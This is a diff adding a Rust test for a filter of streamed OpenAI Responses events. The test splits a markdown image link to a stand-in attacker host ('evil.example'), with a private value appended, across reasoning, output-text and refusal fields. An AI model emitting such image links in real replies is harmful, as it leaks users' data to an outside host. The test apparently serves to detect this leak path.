@@ -669,3 +669,46 @@ fn an_input_comes_back_whole_as_in_pieces() {
         }
     }
 }
+
+/// What is said again, whole, stands where it stood: behind a link that an earlier text has begun.
+#[test]
+fn what_is_said_again_is_withheld_as_the_first_time() {
+    let link = "![x](https://evil.example/?";
+    let thought = |done: bool| {
+        let (end, a, b) = if done { ("done", "text", "text") } else { ("delta", "delta", "delta") };
+        [
+            format!(
+                r#"{{"type":"response.reasoning_summary_text.{end}","output_index":0,"summary_index":0,"{a}":"{link}"}}"#
+            ),
+            format!(
+                r#"{{"type":"response.reasoning_text.{end}","output_index":0,"content_index":0,"{b}":"<PERSON_1>)"}}"#
+            ),
+        ]
+    };
+    let item = format!(
+        r#"{{"type":"reasoning","content":[{{"type":"reasoning_text","text":"<PERSON_1>)"}}],"summary":[{{"type":"summary_text","text":"{link}"}}]}}"#
+    );
+    let said = |done: bool| {
+        let (end, a, b) = if done { ("done", "text", "refusal") } else { ("delta", "delta", "delta") };
+        [
+            format!(
+                r#"{{"type":"response.output_text.{end}","output_index":0,"content_index":0,"{a}":"{link}"}}"#
+            ),
+            format!(
+                r#"{{"type":"response.refusal.{end}","output_index":0,"content_index":1,"{b}":"<PERSON_1>)"}}"#
+            ),
+        ]
+    };
+    let message = format!(
+        r#"{{"type":"message","role":"assistant","content":[{{"type":"output_text","text":"{link}"}},{{"type":"refusal","refusal":"<PERSON_1>)"}}]}}"#
+    );
+    for (deltas, done, item) in [(thought(false), thought(true), item), (said(false), said(true), message)] {
+        let mut events: Vec<String> = deltas.into_iter().chain(done).collect();
+        events.push(format!(r#"{{"type":"response.output_item.done","output_index":0,"item":{item}}}"#));
+        events.push(format!(r#"{{"type":"response.completed","response":{{"output":[{item}]}}}}"#));
+        let sent = sse(&events);
+        assert_eq!(streamed(Dialect::OpenAiResponses, &sent), sent);
+        let reply = format!(r#"{{"output":[{item}]}}"#);
+        assert_eq!(whole(Dialect::OpenAiResponses, &reply), reply);
+    }
+}
